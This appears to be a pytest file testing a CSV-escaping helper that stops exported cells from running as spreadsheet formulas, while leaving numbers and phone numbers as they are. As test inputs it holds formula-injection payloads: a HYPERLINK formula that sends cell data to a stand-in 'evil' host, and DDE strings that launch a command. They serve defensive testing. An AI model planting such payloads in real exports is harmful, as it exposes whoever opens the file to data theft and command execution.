"""No CSV the product writes can run as a spreadsheet formula; numbers and phones stay as they are."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from ivr.csvsafe import safe_cell, writer

IVR = Path(__file__).resolve().parent.parent / "ivr"


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil/?"&A1;"click")', '\'=HYPERLINK("http://evil/?"&A1;"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # the full-width '=' that Excel also takes as a formula
    ("-", "'-"),
    ("- не звонить", "'- не звонить"),
    # numbers and phone numbers cannot hold a function or a reference: written as they are
    ("-150.00", "-150.00"),
    ("-1 800,50", "-1 800,50"),
    ("+79161234567", "+79161234567"),
    ("+7 (916) 123-45-67", "+7 (916) 123-45-67"),
    ("+7 (843) 052 08 37; +7 (846) 091 86 48", "+7 (843) 052 08 37; +7 (846) 091 86 48"),
    ("+1;SUM(A1)", "'+1;SUM(A1)"),
    ("Иванов Иван", "Иванов Иван"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_safe_cell(value: str, written: str) -> None:
    assert safe_cell(value) == written


def test_non_text_values_are_left_to_the_csv_module() -> None:
    out = io.StringIO()
    writer(out, lineterminator="\n").writerows([[-5, None, 1.5], ["=1", "x"]])
    assert out.getvalue() == "-5,,1.5\n'=1,x\n"
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["-5", "", "1.5"], ["'=1", "x"]]


def test_every_csv_writer_of_the_product_goes_through_csvsafe() -> None:
    # the JSON API's in-memory hand-over to the importer is the one exception (see ivr.csvsafe)
    allowed = {IVR / "csvsafe.py", IVR / "web" / "api.py"}
    offenders = [
        str(path.relative_to(IVR)) for path in IVR.rglob("*.py")
        if path not in allowed and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
    api = (IVR / "web" / "api.py").read_text(encoding="utf-8")
    assert len(re.findall(r"csv\.(writer|DictWriter)\(", api)) == 1 and "def rows_to_csv" in api
